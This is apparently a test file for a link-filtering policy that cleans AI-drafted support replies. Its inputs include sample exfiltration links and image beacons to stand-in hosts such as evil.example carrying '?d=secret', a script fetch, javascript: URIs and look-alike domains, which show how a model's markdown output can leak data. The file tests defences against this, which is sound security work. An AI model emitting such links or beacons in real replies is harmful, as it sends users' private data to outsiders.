import fc from "fast-check";
import type { Nodes } from "mdast";
import { describe, expect, it } from "vitest";
import { withSources } from "../../../src/agent/citations.ts";
import { createLinksPolicy } from "../../../src/agent/policies/links.ts";
import type { TranscriptItem } from "../../../src/language-model.ts";
import { parseMarkdown } from "../../../src/markdown.ts";
import type { DraftText } from "../../../src/policy.ts";
import { passage } from "../../doubles/desk-in-a-room.ts";

const policy = createLinksPolicy({
  allow: ["help.example.com", "Account.example.com", "*.status.example.com", "bücher.example"],
});
const returns = {
  ...passage(
    "Returns",
    "Start at account.example.com/returns, see https://help.example.com/ship?lang=en#fast (or http://partner.example.net/page). Write to support@help.example.com.",
  ),
  url: "https://help.example.com/returns",
};
const lookup: TranscriptItem = {
  role: "result",
  id: "c1",
  name: "lookup_order",
  failed: false,
  result: { tracking: ["https://track.example.net/123?x=1"], mail: "jane@example.org" },
};
const asked: TranscriptItem = {
  role: "customer",
  text: "I am at https://help.example.com/secret-page, me@mine.example",
};
const refused: TranscriptItem = { ...lookup, failed: true, result: "https://help.example.com/refused" };

const draft = (text: string): DraftText => ({
  text,
  passages: [returns],
  transcript: [asked, lookup, refused],
  instructions: "Point to https://help.example.com/contact.",
});

/** The text after the review; the draft's own where it passes as it is. */
function reviewed(text: string): string {
  const verdict = policy.review(draft(text));
  if (!verdict.pass) return `OBJECTION ${verdict.objection}`;
  return "text" in verdict ? verdict.text : text;
}

describe("a draft whose links are in order", () => {
  it.each([
    "Hello! How can I help?",
    "No links [here] (at all), 5 < 6 & 7 > 2, e.g. node.js, README.md, 3.5 kg. a|b * c_d ~ e",
    "See https://help.example.com/returns [1].",
    "[How to return](https://help.example.com/ship?lang=en#fast) [1]",
    "Start at account.example.com/returns, or at account.example.com.",
    "<https://help.example.com/contact>",
    "[words][ref]\n\n[ref]: https://help.example.com/returns",
    "[a](https://help.example.com/returns 'a title')",
    "[help.example.com](https://help.example.com/returns)",
    "Write to support@help.example.com or [to us](mailto:support@help.example.com).",
    "https://eu.status.example.com and https://help.example.com/",
    "- one\n- https://help.example.com/returns\n\n| a | b |\n|---|---|\n| x | https://help.example.com |",
    "`curl https://anywhere.example.net/x`\n\n```sh\ncurl https://anywhere.example.net/y <b>\n```",
  ])("is left alone, byte for byte: %s", (text) =>
    expect(policy.review(draft(text))).toEqual({ pass: true }),
  );
});

describe("a link to an allowed host", () => {
  it.each([
    [
      "is cut back to what we have named",
      "https://help.example.com/returns?customer=jane",
      "<https://help.example.com/returns>",
    ],
    [
      "loses a fragment that nobody named",
      "[r](https://help.example.com/returns#jane)",
      "[r](<https://help.example.com/returns>)",
    ],
    [
      "is cut to its host where nothing is known",
      "[r](https://account.example.com/reset?u=1)",
      "[r](<https://account.example.com>)",
    ],
    [
      "is not known from the customer's words",
      "https://help.example.com/secret-page",
      "<https://help.example.com>",
    ],
    [
      "is not known from a call that failed",
      "https://help.example.com/refused",
      "<https://help.example.com>",
    ],
    ["goes by https", "http://help.example.com/returns", "<https://help.example.com/returns>"],
    ["loses credentials", "https://user:pw@help.example.com/returns", "<https://help.example.com/returns>"],
    [
      "is not hidden behind another address",
      "[https://bank.example](https://help.example.com/returns)",
      "<https://help.example.com/returns>",
    ],
    [
      "is not hidden behind a look-alike",
      "[hеlp.example.com](https://help.example.com/returns)",
      "<https://help.example.com/returns>",
    ],
    ["is cut without a scheme, too", "account.example.com/returns?d=1", "account.example.com/returns"],
    [
      "keeps its citation",
      "See https://help.example.com/returns[1].",
      "See https://help.example.com/returns [1].",
    ],
    [
      "mails without a text of its own",
      "[m](mailto:support@help.example.com?body=secret)",
      "[m](<mailto:support@help.example.com>)",
    ],
    [
      "may have a name in other letters when the list says so",
      "[b](https://bücher.example)",
      "[b](<https://xn--bcher-kva.example>)",
    ],
  ])("%s", (_, text, clean) => expect(reviewed(text)).toBe(clean));
});

describe("an address that is not to be clicked", () => {
  it.each([
    [
      "can be read when a tool has named it",
      "Track: https://track.example.net/123?x=1.",
      "Track: `https://track.example.net/123?x=1`.",
    ],
    [
      "can be read beside its words",
      "[Track it](https://track.example.net/123)",
      "Track it (`https://track.example.net/123`)",
    ],
    [
      "can be read when an article has named it",
      "http://partner.example.net/page",
      "`http://partner.example.net/page`",
    ],
    [
      "is a mere name without a path",
      "Also on amazon.com and evil.ru.",
      "Also on `amazon.com` and `evil.ru`.",
    ],
    [
      "is a mailbox of another house, whoever has named it",
      "Mail jane@example.org!",
      "Mail `jane@example.org`!",
    ],
    ["is a mailbox of ours that nobody has named", "Mail x@help.example.com!", "Mail `x@help.example.com`!"],
    ["is a stranger's mailbox", "Mail bad@evil.example!", "Mail `bad@evil.example`!"],
  ])("%s", (_, text, clean) => expect(reviewed(text)).toBe(clean));
});

describe("a link that nobody of ours has named", () => {
  it.each([
    ["https://evil.example/?d=secret now", "(link removed) now"],
    ["[click](https://evil.example/a)", "click"],
    ["**[click](https://evil.example)**", "**click**"],
    ["<https://evil.example>", "(link removed)"],
    ["[https://help.example.com](https://evil.example)", "https://help.example.com"],
    ["[a][b] [1]\n\n[b]: https://evil.example\n[1]: https://evil.example/1", "a [1]"],
    ["https://help.example.com@evil.example/x", "(link removed)"],
    ["https://help.example.com:8443/returns", "(link removed)"],
    ["https://help.example.com.evil.example/returns", "(link removed)"],
    ["https://hеlp.example.com/returns", "(link removed)"],
    ["https://xn--hlp-epd.status.example.com/x", "(link removed)"],
    ["https://status.example.com/x", "(link removed)"],
    ["[j](javascript:alert(1)) [d](data:text/html,x) [r](/rel) [e]()", "j d r e"],
    ["[x](//evil.example/a) [y](https:evil.example) [z](https:\\\\evil.example)", "x y z"],
    ["slack://open?x=1 and ftp://help.example.com/x", "(link removed) and (link removed)"],
    ["www.evil.example/x", "(link removed)"],
    ["evil.com/x?d=secret", "(link removed)"],
    ["https\\://evil.example/x", "(link removed)"],
    ["https&#58;//evil.example/x", "(link removed)"],
    ["https:**//evil.example/?d=1**", "(link removed)"],
    ["https:[7]//evil.example/?d=1", "(link removed)"],
    ["https: [7]//localhost", "(link removed)"],
    ["1. first https://evil.example/x\n2. second", "1. first (link removed)\n2. second"],
    ["| a |\n|---|\n| https://evil.example/x |", "| a |\n|---|\n| (link removed) |"],
  ])("is taken out: %s", (text, clean) => expect(reviewed(text)).toBe(clean));

  it.each([
    ["![](https://evil.example/p.png?d=secret) Hello", "Hello"],
    [
      "Hello ![alt][p]\n\n[p]: https://help.example.com/returns",
      "Hello \n\n[p]: https://help.example.com/returns",
    ],
    ["Hello <img src='https://evil.example/p.png'>", "Hello"],
    ["Hello [![alt](https://evil.example/i.png)](https://evil.example) you", "Hello  you"],
    ["<b>bold</b> <a href='https://evil.example'>go</a>", "bold go"],
    ["<div>\n<p>Hello https://evil.example/x</p></div>", "Hello (link removed)"],
    ["Hello<script>fetch('https://evil.example')</script>", "Hellofetch('(link removed)')"],
    ["Hello <!-- https://evil.example -->you", "Hello you"],
  ])("takes pictures and HTML with it: %s", (text, clean) => expect(reviewed(text)).toBe(clean));

  it("is sent back when nothing else was said", () => {
    expect(reviewed("![](https://evil.example/p.png)")).toMatch(/^OBJECTION/);
  });

  it("is sent back when it is nested beyond reading", () => {
    expect(reviewed(`${"[".repeat(3000)}https://evil.example`)).toMatch(/^OBJECTION/);
  });
});

const pieces = [
  ..."https://evil.com/x|https://help.example.com/returns|http://|https:|//|evil.com|account.example.com/returns|www.".split(
    "|",
  ),
  ...'[|]|(|)|[a]|]: |](|![|<|>|<a href="|">|</a>|<img src=|\'|"|*|**|_|~~|`|\n|\n\n| |\\|&#58;|&amp;|@'.split(
    "|",
  ),
  ..."support@help.example.com|x@evil.com|mailto:|javascript:|text|1. |- |> |?d=1|:|[1]|[7]| [9]|[^1]|[^1]: |é|    |<!--|-->|\t".split(
    "|",
  ),
  "|",
  "| a |\n|---|\n",
];

describe("whatever a model writes", () => {
  it("holds no link in the end but to known places of allowed hosts, and is the same when reviewed again", () => {
    const harmless =
      /^(?:https:\/\/(?:help\.example\.com\/?(?:returns\/?)?|account\.example\.com\/?(?:returns\/?)?)[*_~]*|mailto:support@help\.example\.com)$/;
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 14 }).map((some) => some.join(""));
    fc.assert(
      fc.property(text, (written) => {
        const verdict = policy.review(draft(written));
        if (!verdict.pass) return;
        const clean = "text" in verdict ? verdict.text : written.trim();
        for (const posted of [clean, withSources(clean, [returns]).text]) {
          for (const node of nodesOf(parseMarkdown(posted))) {
            expect(["image", "imageReference"]).not.toContain(node.type);
            if (node.type === "link" || node.type === "definition") expect(node.url).toMatch(harmless);
          }
        }
        expect(policy.review(draft(clean))).toEqual({ pass: true });
      }),
      { numRuns: 3000 },
    );
  }, 120_000);

  it("is read to its end, however hostile", () => {
    for (const piece of [
      "[[a]](b)",
      "<a ",
      "https://evil.com/x ",
      "a@b.",
      "[x]: y\n",
      "](",
      "&#58;",
      "*",
      "a.b.",
      "`",
    ]) {
      expect(policy.review(draft(piece.repeat(Math.ceil(16_000 / piece.length))))).toHaveProperty("pass");
    }
  });
});

function* nodesOf(node: Nodes): Iterable<Nodes> {
  yield node;
  if ("children" in node) for (const child of node.children) yield* nodesOf(child as Nodes);
}
